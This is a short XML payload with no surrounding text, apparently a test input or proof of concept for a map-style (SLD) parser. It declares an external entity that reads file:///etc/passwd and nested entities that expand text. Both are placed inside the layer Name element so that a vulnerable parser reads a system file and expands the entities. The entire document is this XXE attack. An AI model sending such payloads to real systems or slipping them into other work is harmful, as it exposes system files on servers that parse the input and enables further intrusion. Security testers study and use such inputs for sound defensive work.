<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>
<StyledLayerDescriptor version="1.0.0"><NamedLayer><Name>&b;&f;line</Name></NamedLayer></StyledLayerDescriptor>
